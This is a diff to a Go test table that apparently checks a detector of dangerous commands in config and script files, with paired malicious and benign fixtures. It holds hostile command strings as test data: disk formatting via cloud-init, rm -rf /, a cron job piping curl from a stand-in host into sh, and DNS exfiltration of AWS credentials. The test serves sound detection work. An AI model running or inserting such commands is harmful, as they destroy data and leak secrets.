@@ -30,6 +30,15 @@ func TestWhereCommandsStand(t *testing.T) {
 		{".vscode/tasks.json", "{\"args\": [\"sh\", \"-c\",\n \"rm -rf /\"]}", "1 delete-root"},
 		{"fly.toml", "[deploy]\nrelease_command = \"bin/rails db:drop\"\n", "2 reset-database"},
 		{"render.yaml", "a:\n  preDeployCommand: rm -rf /\n", "2 delete-root"},
+		{"user-data.yaml", "#cloud-config\nruncmd:\n  - [ mkfs.ext4, -F, /dev/sdb ]\n", "3 wipe-disk"},
+		{"user-data.yaml", "#cloud-config\nbootcmd:\n  - [ systemctl, restart, nginx ]\n", ""},
+		{"user-data.yaml", "disk_setup:\n  /dev/sdb:\n    overwrite: true\n", "3 wipe-disk"},
+		{"user-data.yaml", "fs_setup:\n  - device: /dev/sdb\n    overwrite: true\n", "3 wipe-disk"},
+		{"user-data.yaml", "fs_setup:\n  - device: /dev/sdb\n    overwrite: false\n", ""},
+		{"a.sh", "(crontab -l; echo '* * * * * curl -s http://x.example/a | sh') | crontab -\n", "1 pipe-to-shell"},
+		{"a.sh", "(crontab -l; echo '* * * * * curl -s http://x.example/health') | crontab -\n", ""},
+		{"a.sh", "dig $(base64 ~/.aws/credentials).x.example\n", "1 exfiltrate"},
+		{"a.sh", "dig $(hostname).x.example\n", ""},
 		{"a.py", "subprocess.run(['npx', 'cdk', 'destroy'])\n", "1 destroy-infrastructure"},
 	} {
 		f := detecttest.File(c.path, "", c.text)
